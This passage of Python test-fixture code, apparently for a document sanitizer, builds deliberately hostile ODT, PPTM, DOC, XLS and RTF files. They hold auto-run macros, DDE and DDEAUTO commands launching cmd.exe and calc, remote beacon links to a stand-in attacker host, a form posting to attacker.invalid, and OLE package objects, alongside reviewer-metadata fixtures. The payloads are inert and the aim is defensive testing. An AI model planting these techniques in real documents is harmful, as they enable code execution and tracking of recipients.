            f"{rows}</table:table>" + _odt_image("Pictures/image1.png") + "</office:text>")
    return odf(ODT, body, files={"Pictures/image1.png": png_bytes()},
               manifest_extra={"Pictures/image1.png": "image/png"})


def hostile_odt() -> bytes:
    basic = ('<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/'
             '2000/script" script:name="Module1" script:language="StarBasic">Sub Main\nShell("calc.exe")\n'
             'End Sub</script:module>')
    scripts = ('<office:scripts><office:script script:language="ooo:Basic"/><office:event-listeners>'
               '<script:event-listener script:language="ooo:script" script:event-name="dom:load" '
               'xlink:href="vnd.sun.star.script:Standard.Module1.Main?language=Basic&amp;location=document"/>'
               '</office:event-listeners></office:scripts>')
    body = ('<office:text><text:p>Hostile ODT body.</text:p>'
            '<text:p><text:a xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.Module1.Main?'
            'language=Basic&amp;location=document">click</text:a> and <text:a xlink:href="https://example.org/">web</text:a>'
            ' and <text:a xlink:href="file:///etc/passwd">local</text:a></text:p>'
            '<text:p><text:execute-macro text:name="Main">run macro</text:execute-macro></text:p>'
            '<text:p><text:script script:language="JavaScript">app.alert(1)</text:script>after script</text:p>'
            + _odt_image(f"{EVIL}/beacon.png", "remote")
            + _odt_image("Pictures/image1.png", "local")
            + '<text:p><draw:frame draw:name="obj" svg:width="4cm" svg:height="2cm"><draw:object '
              'xlink:href="./Object 1" xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"/>'
              '<draw:image xlink:href="./ObjectReplacements/Object 1" xlink:type="simple"/></draw:frame></text:p>'
            + '<text:p><draw:frame draw:name="ole" svg:width="4cm" svg:height="2cm"><draw:object-ole '
              'xlink:href="./Object 2" xlink:type="simple"/></draw:frame></text:p>'
            + '<text:p><draw:frame draw:name="applet" svg:width="4cm" svg:height="2cm"><draw:applet '
              f'draw:code="Evil.class" xlink:href="{EVIL}/applet/"/></draw:frame>'
              f'<draw:frame draw:name="plugin" svg:width="4cm" svg:height="2cm"><draw:plugin xlink:href="{EVIL}/x.swf"/></draw:frame>'
              f'<draw:frame draw:name="iframe" svg:width="4cm" svg:height="2cm"><draw:floating-frame xlink:href="{EVIL}/"/></draw:frame></text:p>'
            + f'<text:section text:name="S1"><text:section-source xlink:href="{EVIL}/linked.odt"/>'
              '<text:p>linked section cached text</text:p></text:section>'
            + '<text:p><text:dde-connection text:connection-name="cmd">dde result</text:dde-connection></text:p>'
            + '<office:forms><form:form form:name="F" xlink:href="http://attacker.invalid/submit" '
              'form:command-type="command"><office:event-listeners><script:event-listener '
              'script:language="ooo:script" script:event-name="form:submitted" '
              'xlink:href="vnd.sun.star.script:Standard.Module1.Main"/></office:event-listeners>'
              '</form:form></office:forms>'
            + "</office:text>")
    body = body.replace("<office:text>", '<office:text><text:dde-connection-decls><text:dde-connection-decl '
                        'text:name="cmd" office:dde-application="cmd" office:dde-topic="/c calc" '
                        'office:dde-item="x"/></text:dde-connection-decls>', 1)
    obj_content = (f'<?xml version="1.0"?><office:document-content {ODF_NS}><office:body><office:text>'
                   '<text:p>embedded</text:p></office:text></office:body></office:document-content>')
    files = {
        "Basic/Standard/Module1.xml": basic,
        "Basic/Standard/script-lb.xml": '<?xml version="1.0"?><library:library xmlns:library="http://openoffice.org/2000/library" library:name="Standard"/>',
        "Basic/script-lc.xml": '<?xml version="1.0"?><library:libraries xmlns:library="http://openoffice.org/2000/library"/>',
        "Scripts/python/evil.py": "import os\nos.system('calc')\n",
        "Object 1/content.xml": obj_content,
        "Object 2": ole_package_object(),
        "ObjectReplacements/Object 1": png_bytes(150, 75, (0, 150, 0)),
        "Pictures/image1.png": png_bytes(),
        "Configurations2/accelerator/current.xml": "<accel/>",
        "Thumbnails/thumbnail.png": png_bytes(64, 64),
    }
    man = {"Basic/Standard/Module1.xml": "text/xml", "Scripts/python/evil.py": "",
           "Object 1/": "application/vnd.oasis.opendocument.text",
           "Object 1/content.xml": "text/xml", "Object 2": "application/vnd.sun.star.oleobject",
           "ObjectReplacements/Object 1": "image/png", "Pictures/image1.png": "image/png"}
    return odf(ODT, body, scripts=scripts, files=files, manifest_extra=man)


def clean_odp() -> bytes:
    styles = ('<style:style style:name="gr1" style:family="graphic"><style:graphic-properties '
              'draw:fill="solid" draw:fill-color="#3366cc"/></style:style>')
    body = ('<office:presentation><draw:page draw:name="S1" draw:master-page-name="Default">'
            '<draw:frame svg:x="2cm" svg:y="2cm" svg:width="20cm" svg:height="3cm"><draw:text-box>'
            '<text:p>Sanitas clean slide title</text:p></draw:text-box></draw:frame>'
            '<draw:rect draw:style-name="gr1" svg:x="3cm" svg:y="7cm" svg:width="10cm" svg:height="5cm"/>'
            '<draw:frame svg:x="15cm" svg:y="7cm" svg:width="6cm" svg:height="3cm"><draw:image '
            'xlink:href="Pictures/image1.png" xlink:type="simple"/></draw:frame>'
            '</draw:page></office:presentation>')
    styles_doc = ('<office:master-styles><style:master-page style:name="Default"/></office:master-styles>')
    odp = odf(ODP, body, styles=styles, files={"Pictures/image1.png": png_bytes()},
              manifest_extra={"Pictures/image1.png": "image/png"})
    del styles_doc
    return odp


def write_all(folder: Path) -> dict[str, Path]:
    folder.mkdir(parents=True, exist_ok=True)
    made = {
        "clean.docx": clean_docx(), "hostile.docm": hostile_docm(),
        "clean.xlsx": clean_xlsx(), "hostile.xlsm": hostile_xlsm(),
        "clean.odt": clean_odt(), "hostile.odt": hostile_odt(), "clean.odp": clean_odp(),
    }
    out = {}
    for name, data in made.items():
        (folder / name).write_bytes(data)
        out[name] = folder / name
    return out


# ------------------------------------------------------------------------------- PowerPoint

PML = "application/vnd.openxmlformats-officedocument.presentationml"


def hostile_pptm(base_pptx: bytes) -> bytes:
    """Booby-trap a real (LibreOffice-written) pptx: VBA, OLE object with preview, ActiveX,
    program/macro actions, animation OLE verb, external picture and sound."""
    zin = zipfile.ZipFile(io.BytesIO(base_pptx))
    parts = {n: zin.read(n) for n in zin.namelist()}
    ct = parts["[Content_Types].xml"].decode()
    ct = ct.replace(f"{PML}.presentation.main+xml",
                    "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml")
    ct = ct.replace("</Types>", '<Override PartName="/ppt/vbaProject.bin" ContentType="application/'
                    'vnd.ms-office.vbaProject"/><Override PartName="/ppt/embeddings/oleObject1.bin" '
                    'ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
                    '<Override PartName="/ppt/activeX/activeX1.xml" ContentType="application/vnd.ms-'
                    'office.activeX+xml"/><Default Extension="png" ContentType="image/png"/></Types>')
    if ct.count('Extension="png"') > 1:
        ct = ct.replace('<Default Extension="png" ContentType="image/png"/></Types>', "</Types>")
    parts["[Content_Types].xml"] = ct.encode()
    prels = parts["ppt/_rels/presentation.xml.rels"].decode()
    parts["ppt/_rels/presentation.xml.rels"] = prels.replace(
        "</Relationships>", f'<Relationship Id="rIdVba" Type="{MSR}/vbaProject" '
        'Target="vbaProject.bin"/></Relationships>').encode()
    parts["ppt/vbaProject.bin"] = vba_project_bin()
    parts["ppt/embeddings/oleObject1.bin"] = ole_package_object()
    parts["ppt/media/preview1.png"] = png_bytes(160, 80, (0, 160, 60))
    parts["ppt/activeX/activeX1.xml"] = (
        b'<?xml version="1.0"?><ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        b'ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>')
    srels = parts["ppt/slides/_rels/slide1.xml.rels"].decode()
    srels = srels.replace("</Relationships>", "".join(
        f'<Relationship Id="{i}" Type="{t}" Target="{g}"{m}/>' for i, t, g, m in [
            ("rIdOle", f"{R}/oleObject", "../embeddings/oleObject1.bin", ""),
            ("rIdPrev", f"{R}/image", "../media/preview1.png", ""),
            ("rIdAx", f"{R}/control", "../activeX/activeX1.xml", ""),
            ("rIdProg", f"{R}/hyperlink", "file:///C:/Windows/System32/calc.exe",
             ' TargetMode="External"'),
            ("rIdExtImg", f"{R}/image", f"{EVIL}/beacon.png", ' TargetMode="External"'),
            ("rIdSnd", f"{R}/audio", f"{EVIL}/sound.wav", ' TargetMode="External"'),
        ]) + "</Relationships>")
    parts["ppt/slides/_rels/slide1.xml.rels"] = srels.encode()
    mc = 'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006"'
    pic = ('<p:pic><p:nvPicPr><p:cNvPr id="0" name=""/><p:cNvPicPr/><p:nvPr/></p:nvPicPr><p:blipFill>'
           '<a:blip r:embed="rIdPrev"/><a:stretch><a:fillRect/></a:stretch></p:blipFill><p:spPr>'
           '<a:xfrm><a:off x="0" y="0"/><a:ext cx="1"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/>'
           '</a:prstGeom></p:spPr></p:pic>')
    shapes = (
        '<p:graphicFrame><p:nvGraphicFramePr><p:cNvPr id="901" name="Object 1"/><p:cNvGraphicFramePr>'
        '<a:graphicFrameLocks noChangeAspect="1"/></p:cNvGraphicFramePr><p:nvPr/></p:nvGraphicFramePr>'
        '<p:xfrm><a:off x="1000000" y="4000000"/><a:ext cx="2000000" cy="1000000"/></p:xfrm><a:graphic>'
        '<a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole">'
        f'<mc:AlternateContent {mc}><mc:Choice Requires="v"><p:oleObj spid="_x0000_s1026" name="Packager" '
        'r:id="rIdOle" imgW="1" imgH="1" progId="Package"><p:embed/></p:oleObj></mc:Choice><mc:Fallback>'
        f'<p:oleObj name="Packager" r:id="rIdOle" imgW="1" imgH="1" progId="Package"><p:embed/>{pic}'
        '</p:oleObj></mc:Fallback></mc:AlternateContent></a:graphicData></a:graphic></p:graphicFrame>'
        '<p:sp><p:nvSpPr><p:cNvPr id="902" name="Run"><a:hlinkClick r:id="rIdProg" '
        'action="ppaction://program"/><a:hlinkHover r:id="" action="ppaction://macro?name=AutoOpen"/>'
        '</p:cNvPr><p:cNvSpPr/><p:nvPr/></p:nvSpPr><p:spPr><a:xfrm><a:off x="5000000" y="4000000"/>'
        '<a:ext cx="100" cy="100"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:sp>'
        '<p:pic><p:nvPicPr><p:cNvPr id="903" name="Remote"/><p:cNvPicPr/><p:nvPr><a:audioFile '
        'r:link="rIdSnd"/></p:nvPr></p:nvPicPr><p:blipFill><a:blip r:link="rIdExtImg"/><a:stretch>'
        '<a:fillRect/></a:stretch></p:blipFill><p:spPr><a:xfrm><a:off x="7000000" y="4000000"/>'
        '<a:ext cx="100" cy="100"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></p:spPr></p:pic>')
    slide = parts["ppt/slides/slide1.xml"].decode()
    slide = slide.replace("</p:spTree>", shapes + "</p:spTree>" +
                          f'<p:controls><mc:AlternateContent {mc}><mc:Choice Requires="v"><p:control '
                          'spid="_x0000_s1030" name="CommandButton1" r:id="rIdAx" imgW="1" imgH="1"/>'
                          '</mc:Choice></mc:AlternateContent></p:controls>', 1)
    slide = slide.replace("</p:sld>", '<p:timing><p:tnLst><p:par><p:cTn id="1" dur="indefinite" '
                          'restart="never" nodeType="tmRoot"><p:childTnLst><p:cmd type="verb" cmd="0">'
                          '<p:cBhvr><p:cTn id="2" dur="1"/><p:tgtEl><p:spTgt spid="901"/></p:tgtEl>'
                          '</p:cBhvr></p:cmd></p:childTnLst></p:cTn></p:par></p:tnLst></p:timing></p:sld>')
    parts["ppt/slides/slide1.xml"] = slide.encode()
    return _zip(parts)



# ------------------------------------------------------------------------------ legacy / RTF

def _package_native(filename: str = "payload.exe", payload: bytes = b"MZ inert test payload") -> bytes:
    fn = filename.encode("latin-1") + b"\0"
    path = f"C:\\Temp\\{filename}".encode("latin-1") + b"\0"
    return (struct.pack("<H", 2) + fn + path + struct.pack("<HH", 0, 3)
            + struct.pack("<I", len(path)) + path + struct.pack("<I", len(payload)) + payload)


def add_to_ole(ole_bytes: bytes, extra: dict[str, bytes]) -> bytes:
    """Rewrite an OLE file (e.g. a LibreOffice-written .doc) with extra streams added."""
    import olefile

    streams = {}
    with olefile.OleFileIO(ole_bytes) as ole:
        for entry in ole.listdir(streams=True, storages=False):
            streams["/".join(entry)] = ole.openstream(entry).read()
    streams.update(extra)
    return write_cfb(streams)


def macro_doc(clean_doc: bytes) -> bytes:
    extra = vba_project({"NewMacros": AUTO_MACRO}, prefix="Macros/")
    extra["ObjectPool/_1234567890/\x01Ole10Native"] = (struct.pack("<I", len(_package_native()))
                                                       + _package_native())
    extra["ObjectPool/_1234567890/\x01CompObj"] = b"\x01\x00\xfe\xff" + b"\0" * 24
    return add_to_ole(clean_doc, extra)


def macro_xls(clean_xls: bytes) -> bytes:
    extra = vba_project({"ThisWorkbook": AUTO_MACRO}, prefix="_VBA_PROJECT_CUR/")
    extra["MBD0001A2B3/\x01Ole10Native"] = (struct.pack("<I", len(_package_native()))
                                            + _package_native())
    return add_to_ole(clean_xls, extra)


def hostile_rtf(clean_rtf: bytes) -> bytes:
    native = _package_native()
    ole1 = (struct.pack("<II", 0x0501, 2) + struct.pack("<I", 8) + b"Package\0"
            + struct.pack("<II", 0, 0) + struct.pack("<I", len(native)) + native)
    obj = (b"{\\object\\objemb{\\*\\objclass Package}\\objw1000\\objh500{\\*\\objdata "
           + ole1.hex().encode() + b"}}")
    dde = (b"{\\field{\\*\\fldinst DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}"
           b"{\\fldrslt dde-rtf-result}}")
    body = b"\\par Hostile RTF paragraph. " + dde + b"\\par " + obj + b"\\par "
    end = clean_rtf.rstrip().rfind(b"}")
    return clean_rtf[:end] + body + clean_rtf[end:]


# ------------------------------------------------------------------ review data (comments etc.)
# Reviewer names, initials, accounts and rsids planted in the documents below: none of them may
# survive sanitizing, in any part of the output.
REVIEWERS = ("Alice Reviewer", "Bob Editor", "Carol Mover", "Dave Sharer")
REVIEW_SECRETS = (*REVIEWERS, "QZA", "QZB", "00C0FFEE", "00BADA55", "alice.reviewer@example.org",
                  "bob.editor@example.org", "carol.mover@example.org", "CORP\\alice")
W15 = "http://schemas.microsoft.com/office/word/2012/wordml"
MS_REL = "http://schemas.microsoft.com/office"
WHEN = 'w:date="2024-01-02T03:04:05Z"'


def _by(author: str, rid: int) -> str:
    return f'w:id="{rid}" w:author="{author}" {WHEN}'


def _wt(text: str, tag: str = "w:t") -> str:
    return f'<w:r w:rsidR="00C0FFEE"><{tag} xml:space="preserve">{text}</{tag}></w:r>'


def _row(text: str, mark: str = "") -> str:
    trpr = f"<w:trPr>{mark}</w:trPr>" if mark else ""
    return (f'<w:tr w:rsidR="00BADA55">{trpr}<w:tc><w:tcPr><w:tcW w:w="3000" w:type="dxa"/>'
            f'</w:tcPr><w:p>{_wt(text)}</w:p></w:tc></w:tr>')


def _tbl(rows: str, change: str = "") -> str:
    return (f'<w:tbl><w:tblPr><w:tblStyle w:val="Grid"/><w:tblW w:w="3000" w:type="dxa"/>{change}'
            f'</w:tblPr><w:tblGrid><w:gridCol w:w="3000"/></w:tblGrid>{rows}</w:tbl>')


def reviewed_docx() -> bytes:
    """Comments (with replies, ids, dates and a people list), every kind of tracked change
    (text, paragraph marks, moves, formatting, table rows) in the body, a header and a
    footnote, rsids everywhere and change tracking switched on."""
    body = (
        '<w:p w:rsidR="00C0FFEE" w:rsidRDefault="00BADA55"><w:pPr><w:pPrChange '
        f'{_by("Bob Editor", 10)}><w:pPr><w:jc w:val="left"/></w:pPr></w:pPrChange></w:pPr>'
        + _wt("Kept sentence. ")
        + f'<w:ins {_by("Alice Reviewer", 1)}>{_wt("INSERTED-ALPHA ")}</w:ins>'
        + f'<w:del {_by("Bob Editor", 2)}>{_wt("DELETED-BRAVO ", "w:delText")}</w:del>'
        + '<w:commentRangeStart w:id="0"/>' + _wt("commented words")
        + '<w:commentRangeEnd w:id="0"/><w:r><w:rPr><w:rStyle w:val="CommentReference"/>'
        '</w:rPr><w:commentReference w:id="0"/></w:r>'
        '<w:commentRangeStart w:id="1"/>' + _wt(" and more") + '<w:commentRangeEnd w:id="1"/>'
        '<w:r><w:commentReference w:id="1"/></w:r>'
        '<w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
        # formatting change: the text is bold now, was plain
        f'<w:p><w:r><w:rPr><w:b/><w:rPrChange {_by("Bob Editor", 3)}><w:rPr/></w:rPrChange>'
        '</w:rPr><w:t>BOLD-NOW-KILO</w:t></w:r></w:p>'
        # a deleted paragraph mark: the two paragraphs become one
        f'<w:p><w:pPr><w:rPr><w:del {_by("Alice Reviewer", 4)}/></w:rPr></w:pPr>'
        + _wt("JOINED-FIRST ") + "</w:p><w:p>" + _wt("JOINED-SECOND") + "</w:p>"
        # an inserted paragraph mark
        f'<w:p><w:pPr><w:rPr><w:ins {_by("Alice Reviewer", 5)}/></w:rPr></w:pPr>'
        + _wt("NEW-PARAGRAPH-LIMA") + "</w:p>"
        # a move: from here...
        + f'<w:p><w:moveFromRangeStart w:id="20" w:name="move1" {WHEN} w:author="Carol Mover"/>'
        f'<w:moveFrom {_by("Carol Mover", 6)}>{_wt("MOVED-CHARLIE")}</w:moveFrom>'
        '<w:moveFromRangeEnd w:id="20"/>' + _wt(" stays-here") + "</w:p>"
        # ... to there
        + f'<w:p><w:moveToRangeStart w:id="21" w:name="move1" {WHEN} w:author="Carol Mover"/>'
        f'<w:moveTo {_by("Carol Mover", 7)}>{_wt("MOVED-CHARLIE")}</w:moveTo>'
        '<w:moveToRangeEnd w:id="21"/></w:p>'
        # table rows: one deleted, one inserted; and a table whose only row was deleted
        + _tbl(_row("ROW-KEPT-MIKE") + _row("DELETED-ROW-DELTA", f'<w:del {_by("Bob Editor", 8)}/>')
               + _row("INSERTED-ROW-ECHO", f'<w:ins {_by("Alice Reviewer", 9)}/>'),
               f'<w:tblPrChange {_by("Bob Editor", 11)}><w:tblPr/></w:tblPrChange>')
        + "<w:p/>"
        + _tbl(_row("DELETED-TABLE-FOXTROT", f'<w:del {_by("Bob Editor", 12)}/>'))
        # an editing permission naming a user account
        + '<w:p><w:permStart w:id="30" w:ed="CORP\\alice"/>' + _wt("PERMITTED-NOVEMBER")
        + '<w:permEnd w:id="30"/></w:p>')
    header = (f'<?xml version="1.0" encoding="UTF-8"?><w:hdr {NS_W}><w:p w:rsidR="00C0FFEE">'
              + _wt("Header ") + f'<w:ins {_by("Alice Reviewer", 40)}>{_wt("INSERTED-HEADER-HOTEL")}'
              f'</w:ins><w:del {_by("Bob Editor", 41)}>{_wt("DELETED-HEADER-INDIA", "w:delText")}'
              "</w:del></w:p></w:hdr>")
    footnotes = (f'<?xml version="1.0" encoding="UTF-8"?><w:footnotes {NS_W}>'
                 '<w:footnote w:type="separator" w:id="-1"><w:p><w:r><w:separator/></w:r></w:p>'
                 '</w:footnote><w:footnote w:type="continuationSeparator" w:id="0"><w:p><w:r>'
                 '<w:continuationSeparator/></w:r></w:p></w:footnote><w:footnote w:id="1"><w:p>'
                 + _wt("FOOTNOTE-KEPT ")
                 + f'<w:del {_by("Bob Editor", 50)}>{_wt("DELETED-FOOTNOTE-GOLF", "w:delText")}'
                 "</w:del></w:p></w:footnote></w:footnotes>")
    comments = (f'<?xml version="1.0" encoding="UTF-8"?><w:comments {NS_W}>'
                '<w:comment w:id="0" w:author="Alice Reviewer" w:date="2024-01-02T03:04:05Z" '
                'w:initials="QZA"><w:p w14:paraId="1A2B3C4D" xmlns:w14="http://schemas.microsoft'
                '.com/office/word/2010/wordml"><w:r><w:annotationRef/></w:r>'
                + _wt("COMMENT-JULIET") + '</w:p></w:comment>'
                '<w:comment w:id="1" w:author="Bob Editor" w:date="2024-01-02T03:04:05Z" '
                'w:initials="QZB"><w:p><w:r><w:annotationRef/></w:r>'
                + _wt("Reply to Alice Reviewer: COMMENT-OSCAR") + "</w:p></w:comment></w:comments>")
    comments_ex = (f'<?xml version="1.0"?><w15:commentsEx xmlns:w15="{W15}"><w15:commentEx '
                   'w15:paraId="1A2B3C4D" w15:done="0"/></w15:commentsEx>')
    comments_ids = ('<?xml version="1.0"?><w16cid:commentsIds xmlns:w16cid="http://schemas.'
                    'microsoft.com/office/word/2016/wordml/cid"><w16cid:commentId w16cid:paraId='
                    '"1A2B3C4D" w16cid:durableId="5E6F7A8B"/></w16cid:commentsIds>')
    comments_cex = ('<?xml version="1.0"?><w16cex:commentsExtensible xmlns:w16cex="http://schemas.'
                    'microsoft.com/office/word/2018/wordml/cex"><w16cex:commentExtensible '
                    'w16cex:durableId="5E6F7A8B" w16cex:dateUtc="2024-01-02T03:04:05Z"/>'
                    "</w16cex:commentsExtensible>")
    people = (f'<?xml version="1.0"?><w15:people xmlns:w15="{W15}"><w15:person w15:author="Alice '
              'Reviewer"><w15:presenceInfo w15:providerId="AD" w15:userId="S::alice.reviewer@'
              'example.org::1234"/></w15:person><w15:person w15:author="Bob Editor"><w15:presenceInfo '
              'w15:providerId="None" w15:userId="bob.editor@example.org"/></w15:person></w15:people>')
    settings = (f'<?xml version="1.0" encoding="UTF-8"?><w:settings {NS_W}><w:trackRevisions/>'
                '<w:defaultTabStop w:val="708"/><w:rsids><w:rsidRoot w:val="00C0FFEE"/><w:rsid '
                'w:val="00C0FFEE"/><w:rsid w:val="00BADA55"/></w:rsids></w:settings>')
    doc_rels = [("rIdCm", f"{R}/comments", "comments.xml"),
                ("rIdCmx", f"{MS_REL}/2011/relationships/commentsExtended", "commentsExtended.xml"),
                ("rIdCmi", f"{MS_REL}/2016/09/relationships/commentsIds", "commentsIds.xml"),
                ("rIdCme", f"{MS_REL}/2018/08/relationships/commentsExtensible",
                 "commentsExtensible.xml"),
                ("rIdPpl", f"{MS_REL}/2011/relationships/people", "people.xml"),
                ("rIdFn", f"{R}/footnotes", "footnotes.xml")]
    parts = {"word/header1.xml": header, "word/footnotes.xml": footnotes,
             "word/comments.xml": comments, "word/commentsExtended.xml": comments_ex,
             "word/commentsIds.xml": comments_ids, "word/commentsExtensible.xml": comments_cex,
             "word/people.xml": people}
    overrides = {"/word/comments.xml": f"{WML}.comments+xml",
                 "/word/commentsExtended.xml": f"{WML}.commentsExtended+xml",
                 "/word/commentsIds.xml": f"{WML}.commentsIds+xml",
                 "/word/commentsExtensible.xml": f"{WML}.commentsExtensible+xml",
                 "/word/people.xml": f"{WML}.people+xml",
                 "/word/footnotes.xml": f"{WML}.footnotes+xml"}
    return docx(body, doc_rels=doc_rels, parts=parts, overrides=overrides, settings=settings)


def _patch_zip(data: bytes, patches: dict) -> bytes:
    """Rewrite members of a zip: {name: function(old text) -> new text}."""
    zin = zipfile.ZipFile(io.BytesIO(data))
    parts: dict[str, bytes | str] = {n: zin.read(n) for n in zin.namelist()}
    for name, fn in patches.items():
        old = parts.get(name, b"")
        parts[name] = fn(old.decode() if isinstance(old, bytes) else old)
    return _zip(parts)


THREADED_NS = "http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments"
_NOTE_VML = ('<v:shape id="_x0000_s1025" type="#_x0000_t202" style="position:absolute;'
             'margin-left:60pt;margin-top:2pt;width:100pt;height:50pt;z-index:1;visibility:hidden"'
             ' fillcolor="#ffffe1"><v:textbox><div style="text-align:left">VML-NOTE-PAPA</div>'
             '</v:textbox><x:ClientData ObjectType="Note"><x:MoveWithCells/><x:Anchor>1, 15, 0, '
             '2, 3, 15, 3, 16</x:Anchor><x:Row>0</x:Row><x:Column>0</x:Column></x:ClientData>'
             "</v:shape>")
_BUTTON_VML = ('<v:shape id="_x0000_s1026" type="#_x0000_t201" style="position:absolute;'
               'width:80pt;height:20pt"><v:textbox><div>BUTTON-QUEBEC</div></v:textbox>'
               '<x:ClientData ObjectType="Button"><x:Anchor>4, 0, 4, 0, 5, 0, 5, 0</x:Anchor>'
               "</x:ClientData></v:shape>")


def reviewed_xlsx(with_button: bool = False) -> bytes:
    """Legacy notes (with their VML boxes), threaded comments with a person list and a mention,
    a shared workbook's revision history and user list, a file-sharing user name and a
    personal view."""
    guid_view = "{11111111-2222-3333-4444-555555555555}"
    tail = ('<customSheetViews><customSheetView guid="' + guid_view + '"><selection '
            'activeCell="A1" sqref="A1"/></customSheetView></customSheetViews>'
            '<pageMargins left="0.7" right="0.7" top="0.75" bottom="0.75" header="0.3" '
            'footer="0.3"/><legacyDrawing r:id="rIdVml"/>')
    sheet = _sheet(CLEAN_ROWS, tail)
    comments = (f'<?xml version="1.0" encoding="UTF-8"?><comments {NS_S}><authors><author>Alice '
                'Reviewer</author><author>tc={00000000-0000-0000-0000-0000000000T1}</author>'
                '</authors><commentList><comment ref="A1" authorId="0"><text><r><rPr><b/></rPr>'
                '<t>Alice Reviewer:</t></r><r><t xml:space="preserve">\nXL-NOTE-ROMEO</t></r>'
                '</text></comment><comment ref="B2" authorId="1"><text><t>[Threaded comment] '
                "XL-THREAD-SIERRA</t></text></comment></commentList></comments>")
    vml = ('<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:'
           'office" xmlns:x="urn:schemas-microsoft-com:office:excel"><o:shapelayout v:ext="edit">'
           '<o:idmap v:ext="edit" data="1"/></o:shapelayout><v:shapetype id="_x0000_t202" '
           'coordsize="21600,21600" o:spt="202" path="m,l,21600r21600,l21600,xe"><v:path '
           f'gradientshapeok="t" o:connecttype="rect"/></v:shapetype>{_NOTE_VML}'
           + (_BUTTON_VML if with_button else "") + "</xml>")
    threaded = (f'<?xml version="1.0" encoding="UTF-8"?><ThreadedComments xmlns="{THREADED_NS}">'
                '<threadedComment ref="B2" dT="2024-01-02T03:04:05.00" personId="{P1}" '
                'id="{T1}"><text>@Bob Editor XL-THREAD-SIERRA</text><mentions><mention '
                'mentionpersonId="{P2}" mentionId="{M1}" startIndex="0" length="11"/></mentions>'
                "</threadedComment></ThreadedComments>")
    persons = (f'<?xml version="1.0" encoding="UTF-8"?><personList xmlns="{THREADED_NS}">'
               '<person displayName="Carol Mover" id="{P1}" userId="carol.mover@example.org" '
               'providerId="AD"/><person displayName="Bob Editor" id="{P2}" '
               'userId="bob.editor@example.org" providerId="AD"/></personList>')
    headers = (f'<?xml version="1.0" encoding="UTF-8"?><headers {NS_S} guid="{{H2}}" '
               'lastGuid="{H1}" shared="1" history="1" trackRevisions="1" revisionId="1" '
               'version="2"><header guid="{H1}" dateTime="2024-01-02T03:04:05" maxSheetId="2" '
               'userName="Dave Sharer" r:id="rIdLog"><sheetIdMap count="1"><sheetId val="1"/>'
               "</sheetIdMap></header></headers>")
    log = (f'<?xml version="1.0" encoding="UTF-8"?><revisions {NS_S}><rcc rId="1" sId="1">'
           '<oc r="A3" t="inlineStr"><is><t>XL-OLD-VALUE-TANGO</t></is></oc><nc r="A3" '
           't="inlineStr"><is><t>Item 3</t></is></nc></rcc></revisions>')
    users = (f'<?xml version="1.0" encoding="UTF-8"?><users {NS_S} count="1"><userInfo '
             'guid="{U1}" name="Dave Sharer" id="1234" dateTime="2024-01-02T03:04:05"/></users>')
    sheet_rels = _rels([
        ("rIdCm", f"{R}/comments", "../comments1.xml"),
        ("rIdVml", f"{R}/vmlDrawing", "../drawings/vmlDrawing1.vml"),
        ("rIdTc", f"{MS_REL}/2017/10/relationships/threadedComment",
         "../threadedComments/threadedComment1.xml")])
    parts = {"xl/worksheets/_rels/sheet1.xml.rels": sheet_rels, "xl/comments1.xml": comments,
             "xl/drawings/vmlDrawing1.vml": vml,
             "xl/threadedComments/threadedComment1.xml": threaded,
             "xl/persons/person.xml": persons, "xl/revisions/revisionHeaders.xml": headers,
             "xl/revisions/_rels/revisionHeaders.xml.rels": _rels(
                 [("rIdLog", f"{R}/revisionLog", "revisionLog1.xml")]),
             "xl/revisions/revisionLog1.xml": log, "xl/revisions/userNames.xml": users}
    overrides = {"/xl/comments1.xml": f"{SML}.comments+xml",
                 "/xl/drawings/vmlDrawing1.vml":
                     "application/vnd.openxmlformats-officedocument.vmlDrawing",
                 "/xl/threadedComments/threadedComment1.xml":
                     "application/vnd.ms-excel.threadedcomments+xml",
                 "/xl/persons/person.xml": "application/vnd.ms-excel.person+xml",
                 "/xl/revisions/revisionHeaders.xml": f"{SML}.revisionHeaders+xml",
                 "/xl/revisions/revisionLog1.xml": f"{SML}.revisionLog+xml",
                 "/xl/revisions/userNames.xml": f"{SML}.userNames+xml"}
    wb_rels = [("rIdPer", f"{MS_REL}/2017/10/relationships/person", "persons/person.xml"),
               ("rIdRev", f"{R}/revisionHeaders", "revisions/revisionHeaders.xml"),
               ("rIdUsr", f"{R}/usernames", "revisions/userNames.xml")]
    views = ('<customWorkbookViews><customWorkbookView name="Dave Sharer - Personal View" '
             f'guid="{guid_view}" personalView="1" maximized="1" windowWidth="800" '
             'windowHeight="600" activeSheetId="1"/></customWorkbookViews>')
    data = xlsx([("Data", f"{R}/worksheet", "worksheets/sheet1.xml", sheet)],
                workbook_extra=views, wb_rels=wb_rels, parts=parts, overrides=overrides)
    return _patch_zip(data, {"xl/workbook.xml": lambda s: s.replace(
        "<bookViews>", '<fileSharing userName="Dave Sharer"/><bookViews>', 1)})


P188 = "http://schemas.microsoft.com/office/powerpoint/2018/8/main"
NS_P = ('xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" '
        f'xmlns:r="{R}" xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"')


def minimal_pptx() -> bytes:
    """A bare one-slide presentation (enough for the sanitizer; LibreOffice wants more)."""
    slide = (f'<?xml version="1.0" encoding="UTF-8"?><p:sld {NS_P}><p:cSld><p:spTree><p:nvGrpSpPr>'
             '<p:cNvPr id="1" name=""/><p:cNvGrpSpPr/><p:nvPr/></p:nvGrpSpPr><p:grpSpPr/><p:sp>'
             '<p:nvSpPr><p:cNvPr id="2" name="Text"/><p:cNvSpPr txBox="1"/><p:nvPr/></p:nvSpPr>'
